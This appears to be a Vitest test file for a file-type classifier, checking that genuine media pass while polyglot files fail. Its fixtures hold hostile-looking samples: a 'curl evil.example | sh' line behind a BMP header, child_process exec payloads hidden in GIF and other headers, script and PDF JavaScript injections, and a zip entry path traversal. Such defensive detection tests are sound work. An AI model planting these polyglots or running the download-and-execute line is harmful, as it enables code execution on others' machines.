import { describe, expect, it } from "vitest";
import { classifyFile } from "../../../src/core/files/file-kind.ts";
import * as media from "../../fixtures/media.ts";

const SAMPLES: Readonly<Record<string, Buffer>> = {
  png: media.aPng(),
  gif: media.aGif(),
  jpg: media.aJpeg(),
  bmp: media.aBmp(),
  ico: media.anIcon(),
  webp: media.aWebp(),
  wav: media.aWave(),
  tif: media.aTiff(),
  mp4: media.aMovie(),
  jxl: media.aJpegXl(),
  psd: media.aPhotoshop(),
  mp3: media.anMp3(),
  ogg: media.anOgg(),
  flac: media.aFlac(),
  mid: media.aMidi(),
  webm: media.aWebm(),
  flv: media.aFlashVideo(),
  ttf: media.aFont(),
  woff: media.aWoff(),
  woff2: media.aWoff2(),
  pdf: media.aPdf(),
  docx: media.anOfficeFile("[Content_Types].xml", "word/document.xml"),
  epub: media.anOfficeFile("mimetype", "META-INF/container.xml"),
};
const FORMATS = Object.entries(SAMPLES);
const SCRIPT =
  "\0\n(async () => { const { execSync } = await import('node:child_process'); execSync('id'); })();\n".repeat(8);
/** As many bytes as a signature has. */
const MAGIC: Readonly<Record<string, number>> = { bmp: 2, jpg: 3, mp4: 8, jxl: 12, mp3: 3, webm: 4, woff: 4, woff2: 4 };

describe("media", () => {
  it.each(FORMATS)("are passed over when they are what they claim: %s", (extension, bytes) => {
    expect(classifyFile(`a.${extension}`, bytes)).toBe("media");
  });

  it.each(FORMATS)("are not told by the bytes they begin with alone: %s", (extension, bytes) => {
    const start = bytes.subarray(0, MAGIC[extension] ?? 6);
    expect(classifyFile(`a.${extension}`, Buffer.concat([start, Buffer.from(SCRIPT)]))).not.toBe("media");
    expect(classifyFile(`a.${extension}`, Buffer.concat([start, Buffer.from([0, 255])]))).not.toBe("media");
  });

  it.each(FORMATS.filter(([extension]) => !["jpg", "tif", "psd", "mp3", "flac", "webm", "flv"].includes(extension)))(
    "end where they say: %s with a program behind it is none",
    (extension, bytes) => {
      expect(classifyFile(`a.${extension}`, Buffer.concat([bytes, Buffer.from(SCRIPT)]))).not.toBe("media");
    },
  );

  it.each(FORMATS)("are none when they are text for the most part: %s", (extension, bytes) => {
    const isDocument = ["pdf", "docx", "epub"].includes(extension);
    const long = Buffer.concat([bytes, Buffer.from(SCRIPT.repeat(20).replaceAll("\0", ""))]);
    if (!isDocument) expect(classifyFile(`a.${extension}`, long)).not.toBe("media");
  });

  it.each([
    ["shell behind BM", "a.bmp", "BM\n\0curl evil.example | sh\n"],
    ["JavaScript behind GIF89a", "a.gif", "GIF89a=1;require('child_process').exec('id')//\0"],
    ["JavaScript between the header and the trailer of a GIF", "a.gif", "GIF89a/*\0\0\0\0*/=1;alert(1)//;"],
    ["a page behind RIFF", "a.webp", "RIFF\0\0\0\0WEBP<script>alert(1)</script>"],
    ["a PDF without a cross-reference", "a.pdf", "%PDF-1.7\n\xe2\xe3\n/JS (app.alert(1))\n%%EOF\n"],
  ])("are not %s", (_, path, latin1) => {
    expect(classifyFile(path, Buffer.from(latin1, "latin1"))).toBe("binary");
  });

  it.each([
    ["a program among its entries", ["[Content_Types].xml", "word/run.exe"]],
    ["an entry that leaves it", ["[Content_Types].xml", "../run"]],
    ["nothing that says what it is", ["word/document.xml"]],
  ])("are no office document with %s", (_, names) => {
    expect(classifyFile("a.docx", media.anOfficeFile(...names))).not.toBe("media");
  });

  it.each(FORMATS)("cut short anywhere are no media, and nothing throws: %s", (extension, bytes) => {
    for (let length = 0; length < bytes.length - 20; length += 1) {
      const kind = classifyFile(`a.${extension}`, bytes.subarray(0, length));
      if (!["webm", "flac", "mp3", "flv"].includes(extension)) expect(kind).not.toBe("media");
    }
  });
});
